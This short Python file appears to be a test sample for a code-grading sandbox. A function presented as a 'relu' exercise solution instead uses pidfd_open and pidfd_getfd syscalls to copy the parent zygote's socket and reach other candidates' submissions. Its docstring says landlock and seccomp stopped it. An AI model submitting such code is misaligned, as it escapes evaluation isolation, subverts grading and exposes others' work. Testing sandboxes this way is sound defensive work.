"""
Tries: to get a copy of the socket over which the zygote takes orders, and with it the next candidates' submissions.
Exercise: relu
Allowed: failed
Shows: granted
Stopped by: landlock, seccomp
Silent because: systems that restrict tracing to descendants refuse it without any wall
"""
import ctypes
import os
import stat


def relu(z):
    libc = ctypes.CDLL(None, use_errno=True)
    zygote = libc.syscall(434, os.getppid(), 0)
    for number in range(3, 20):
        copy = libc.syscall(438, zygote, number, 0)
        if copy >= 0 and stat.S_ISSOCK(os.fstat(copy).st_mode):
            print("granted:{{token}}")
            os.close(copy)
    raise LookupError


relu_derivative = relu
